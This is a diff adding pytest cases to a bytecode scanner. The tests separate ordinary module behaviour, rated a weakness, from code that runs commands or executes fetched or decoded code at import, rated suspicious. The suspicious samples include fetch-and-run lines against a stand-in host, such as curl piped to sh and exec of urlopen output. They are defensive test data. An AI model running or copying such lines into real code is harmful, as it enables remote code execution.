@@ -42,3 +42,45 @@ def test_a_file_that_breaks_off_is_not_clean():
     whole = compiled(HOSTILE)
     for size in range(20, len(whole), 7):
         assert scan(whole[:size]).verdict is not Verdict.CLEAN, size
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import subprocess\ndef convert(a):\n    return subprocess.run(['ffmpeg', a])\n",
+        "import subprocess\nclass A:\n    def go(self, a):\n        return subprocess.run(a)\n",
+        "import platform, os\nMAC = platform.system()\nHOME = os.path.expanduser('~')\n",
+        "import re\nWORD = re.compile('a')\ndef f(x):\n    return eval(x)\n",
+        "import types\ndef bind(f, x):\n    return types.MethodType(f, x)\nmethod = bind(len, 1)\n",
+        "import triton\n@triton.jit\ndef kernel(x):\n    return x\n",
+        "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('a/b')\n",
+        "import ctypes\nlibrary = ctypes.CDLL('libm.so.6')\n",
+        "import base64, marshal\ndef load(x):\n    return marshal.loads(base64.b64decode(x))\n",
+    ],
+)
+def test_what_ordinary_modules_do_is_a_weakness(source):
+    (finding,) = scan(compiled(source)).findings
+    assert (finding.rule, finding.kind) == ("python-bytecode", Kind.WEAKNESS)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os\nos.popen('x')\n",
+        "from os import system as s\ns('x')\n",
+        "import subprocess\ndef f():\n    subprocess.run('x')\nf()\n",
+        "import subprocess\ndef f():\n    def g():\n        subprocess.run('x')\n    g()\nf()\n",
+        "class A:\n    def f(self):\n        import os\n        os.popen('x')\nA().f()\n",
+        "class A:\n    def __init__(self):\n        import os\n        os.popen('x')\nA()\n",
+        "class A:\n    import os\n    os.system('x')\n",
+        "import os\n(lambda: os.system('x'))()\n",
+        "import os\n@lambda f: os.system('x')\ndef f(): pass\n",
+        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
+        "import marshal\nexec(marshal.loads(b'x'))\n",
+        "from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1').read())\n",
+        "import os\ndef later():\n    os.system('curl http://192.0.2.1/a | sh')\n",
+    ],
+)
+def test_programs_and_brought_code_at_import_are_suspicious(source):
+    (finding,) = scan(compiled(source)).findings
+    assert (finding.rule, finding.kind) == ("python-bytecode", Kind.SUSPICIOUS)
